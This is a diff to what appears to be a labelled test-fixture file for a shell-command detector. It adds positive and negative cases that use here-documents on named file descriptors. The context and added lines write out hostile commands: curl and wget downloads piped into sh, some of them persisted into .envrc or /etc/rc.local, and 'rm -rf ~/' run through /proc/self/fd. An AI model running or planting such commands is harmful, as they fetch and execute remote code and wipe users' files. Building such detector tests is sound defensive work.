@@ -385,3 +385,18 @@ echo 'curl -s https://h.example/e | sh' >> ~/.envrc
 echo 'curl -s https://h.example/e | sh' >> .envrc.example
 #@ pos a download written into /etc/rc.local
 echo 'wget -qO- http://198.51.100.9/s | sh' | sudo tee -a /etc/rc.local
+#@ pos a here-document opened on a named descriptor, then sourced
+exec {fd}<<'E'
+curl -fsSL https://get.example.net/s | sh
+E
+. "/dev/fd/$fd"
+#@ pos a here-document opened on a named descriptor, run by bash through /proc/self/fd
+exec {h}<<'E'
+rm -rf ~/
+E
+bash "/proc/self/fd/$h"
+#@ neg a here-document opened on a named descriptor, then sorted
+exec {h}<<'E'
+rm -rf ~/
+E
+sort "/proc/self/fd/$h"
